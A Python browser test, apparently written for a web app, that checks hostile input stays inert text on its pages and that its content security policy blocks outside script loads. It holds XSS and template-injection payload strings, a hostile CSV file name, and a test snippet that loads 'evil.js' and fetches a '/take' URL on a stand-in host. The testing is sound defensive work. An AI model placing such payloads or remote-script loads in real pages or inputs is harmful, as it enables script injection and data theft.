"""Hostile names, labels, cells, logs and files on the main pages of the app, in a real browser: all of it stays text.

The policy that every answer carries is proved by the same pages: they work under it, and it holds back what it should.
"""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from core import events
from tests import shelf
from tests.browser import RunningApp

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.browser

HOSTILE = (
    "<img src=x onerror=\"window.hit='img'\"><script>window.hit='script'</script>`${window.hit=1}`{{window.hit=2}}"
)
FILE = "<img src=x onerror=window.hit=3>.csv"
WATCH = """
window.blocked = [];
const note = (event) => window.blocked.push(`${event.violatedDirective} ${event.blockedURI}`);
document.addEventListener("securitypolicyviolation", note);
"""


def judged() -> dict[str, Any]:
    """A report in which all words come from somebody who means harm."""
    made = shelf.report(HOSTILE)
    made["verdict"] = HOSTILE
    made["mistakes"] = [dict(one, truth=HOSTILE, answer=HOSTILE) for one in made["mistakes"]]
    return made


def test_words_of_others_stay_words_on_every_page(page: Page, app: RunningApp, tmp_path: Path) -> None:
    happened = [
        *shelf.training(),
        events.Noticed(level="warning", title=HOSTILE, detail=HOSTILE),
        events.Failed(title=HOSTILE, advice=HOSTILE, cause=HOSTILE),
    ]
    run = shelf.put(app.home, HOSTILE, *happened, judged=judged())
    run.log_path.write_text(f"{HOSTILE}\n", encoding="utf-8")
    page.add_init_script(WATCH)
    shown = {
        "/": ".ts-page",
        f"/run?id={run.id}": ".ts-section, .ts-verdict, #ts-details",
        f"/compare?runs={run.id}": ".ts-page",
        f"/labels?id={run.id}": ".ts-page",
        "/search": ".ts-page",
        f"/ensemble?runs={run.id}": ".nr-h1, h1",
    }
    for path, place in shown.items():
        page.goto(path)
        page.locator(place).first.wait_for(state="attached")
        page.locator("#ts-opening").wait_for(state="hidden")
        if path in ("/", f"/run?id={run.id}"):
            page.get_by_text("<img src=x onerror", exact=False).first.wait_for()
        need_unharmed(page, path)
    table = tmp_path / FILE
    table.write_text(
        f"{csv(HOSTILE)},label\n"
        + "".join(f"{csv(HOSTILE + str(n))},{csv(HOSTILE + 'ab'[n % 2])}\n" for n in range(40)),
        encoding="utf-8",
    )
    page.goto("/new")
    page.locator("#data-files input[type=file]").set_input_files(str(table))
    page.locator("#data-found").get_by_text("Different values").or_(
        page.locator("#data-columns").get_by_text("Different values")
    ).first.wait_for()
    page.locator("#data-found, #data-columns").get_by_text("<img src=x", exact=False).first.wait_for()
    need_unharmed(page, "/new")
    held = page.evaluate(
        """async () => {
            const script = document.createElement("script");
            script.src = "http://127.0.0.1:9/evil.js";
            document.head.append(script);
            await fetch("http://127.0.0.1:9/take").catch(() => {});
            await new Promise((done) => setTimeout(done, 100));
            return window.blocked;
        }"""
    )
    assert [one.split("-src")[0] for one in sorted(held)] == ["connect", "script"], held


def need_unharmed(page: Page, path: str) -> None:
    assert page.evaluate("window.hit") is None, f"a script of the data ran on {path}"
    assert page.evaluate("window.blocked") == [], path


def csv(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'
